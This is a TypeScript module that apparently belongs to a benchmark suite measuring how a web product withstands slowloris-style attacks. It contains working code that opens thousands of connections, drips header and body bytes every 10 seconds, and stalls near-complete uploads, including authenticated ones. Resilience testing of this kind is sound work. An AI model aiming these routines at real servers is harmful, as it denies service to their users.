import { connect } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import type { Row } from "../../bench/row.ts";
import { signInAt } from "../support/client.ts";
import { type Attack, measureAttacks } from "./attack.ts";

/** Connections that send a byte now and then, stand still just before the end of a body, or send nothing. */
export function run(part?: string): Promise<Row[]> {
	return measureAttacks(attacks, part);
}

const kilobyte = 1024;
const host = "HTTP/1.1\r\nHost: x\r\n";
const form = `POST /api/v1/user/contact-us ${host}Content-Type: application/json\r\n`;
const length = `Content-Length: ${512 * kilobyte}\r\n\r\n`;
const nearly = Buffer.concat([Buffer.from('{"name":"'), Buffer.alloc(511 * kilobyte, "a")]);
const inChunks = Buffer.concat([Buffer.from(`${(512 * kilobyte).toString(16)}\r\n`), nearly]);

const attacks: Attack[] = [
	hold("1,000 connections with a byte of a head every 10 s", 1_000, [`GET / ${host}X-Slow: `]),
	hold("1,000 connections with a byte of a body every 10 s", 1_000, [form, length]),
	hold("10,000 connections that send nothing", 10_000, []),
	hold("1,000 connections from one address with 511 KB of 512 KB", 1_000, [form, length, nearly], 1),
	hold("1,000 connections from 200 addresses with 511 KB of 512 KB", 1_000, [form, length, nearly]),
	hold("the same in chunks", 1_000, [form, "Transfer-Encoding: chunked\r\n\r\n", inChunks]),
	hold("1,000 bodies to a page that reads none", 1_000, [`GET /about ${host}`, length, nearly]),
	{
		what: "200 uploads with a token, 15 MB of 16 each",
		async run(product) {
			const headers = [
				`Authorization: Bearer ${await signInAt(product.origin)}`,
				"Content-Type: multipart/form-data; boundary=x",
				`Content-Length: ${16 * kilobyte * kilobyte}`,
			].join("\r\n");
			const sent = [`POST /api/v1/blog ${host}${headers}\r\n\r\n`, Buffer.alloc(15 * kilobyte * kilobyte, "a")];
			await hold("", 200, sent, 20).run(product);
		},
	},
];

/** Opens connections from several addresses of this machine, begins a request on each, and adds a byte every 10 s, for 40 s. */
function hold(what: string, connections: number, begin: (string | Buffer)[], addresses = 200): Attack {
	return {
		what,
		async run({ origin }) {
			const { hostname, port } = new URL(origin);
			const sockets = [];
			for (let number = 0; number < connections; number++) {
				const localAddress = `127.0.2.${1 + (number % addresses)}`;
				const socket = connect({ host: hostname, port: Number(port), localAddress });
				// Those that are refused or closed stay so.
				socket.on("error", () => undefined).resume();
				for (const bytes of begin) socket.write(bytes);
				sockets.push(socket);
				if (number % 50 === 49) await pause(20);
			}
			for (let round = 0; round < 4; round++) {
				await pause(10_000);
				if (begin.length > 0) for (const socket of sockets) if (socket.writable) socket.write("a");
			}
			for (const socket of sockets) socket.destroy();
		},
	};
}
